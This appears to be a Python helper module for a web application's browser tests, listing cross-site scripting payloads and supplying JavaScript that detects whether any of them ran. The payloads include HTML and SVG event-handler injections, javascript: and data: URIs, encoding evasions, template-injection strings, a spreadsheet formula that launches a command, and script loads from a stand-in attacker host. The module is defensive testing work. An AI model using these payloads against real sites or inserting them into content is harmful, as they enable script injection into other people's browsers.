"""Texts that become scripts wherever markup is made of them carelessly, and how to see in a browser that none did (S7).

Every one that runs calls `alert`, `confirm` or `prompt`, or leaves something in the document that would when somebody
pressed or pointed at it. Any text that a person can give is tried with all of them: see `tests/browser/test_xss.py`.
"""

from typing import Any

OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "--><!-- -->", "]]>", "`>")
"""By which an attacker leaves the place where the text stands."""
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
)
OTHERS = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    "x onerror=alert(1)",
    " onfocus=alert(1) autofocus ",
    "` onerror=alert(1) `",
    '"style="animation-name:x" onanimationstart="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<img src='x' onerror='alert`1`'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><script>alert(1)</script></template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table><td background=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1) tabindex=1 autofocus>",
    "<p onclick=alert(1) style=position:fixed;inset:0>x",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "${alert(1)}",
    "#{alert(1)}",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{''.__class__.__mro__}}",
    "{{page.csrf}}",
    "<%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "*/alert(1)/*",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "=cmd|' /C calc'!A0",
    "\0csrf\0",
)
PAYLOADS = tuple(dict.fromkeys([*(opening + vector for opening in OPENINGS for vector in VECTORS), *OTHERS]))
STORABLE = tuple(text for text in PAYLOADS if "\0" not in text)
"""All but what Postgres refuses as text anyway."""

LISTEN = """window.ran = [];
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.ran.push(name); };
window.reported = [];
document.addEventListener('securitypolicyviolation', said =>
  window.reported.push(`${said.effectiveDirective} refuses ${said.blockedURI} ${said.sample}`));"""
SUSPECT = """(view = window) => {
  const found = [...(view.ran || [])];
  for (const one of view.document.querySelectorAll('*')) {
    const foreign = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'FRAME'].includes(one.tagName);
    if (foreign && !(one.src || '').startsWith(location.origin)) found.push(one.outerHTML.slice(0, 120));
    for (const {name, value} of one.attributes) {
      const address = value.replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase();
      const leads = ['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'background'].includes(name);
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${one.tagName} ${name}=${value}`);
      if (leads && /^(javascript|vbscript|data:text)/.test(address)) found.push(`${one.tagName} ${name}=${value}`);
      if (leads && /evil\\.example|alert\\(/.test(address)) found.push(`${one.tagName} ${name}=${value}`);
    }
  }
  return found;
}"""


async def ran(page: Any) -> list[str]:
    """What ran on this page, or stands in it and would run when touched. Its context needs `LISTEN` from the start."""
    await page.wait_for_timeout(20)
    found: list[str] = await page.evaluate(f"() => ({SUSPECT})()")
    return [f"{one} on {page.url}" for one in found]
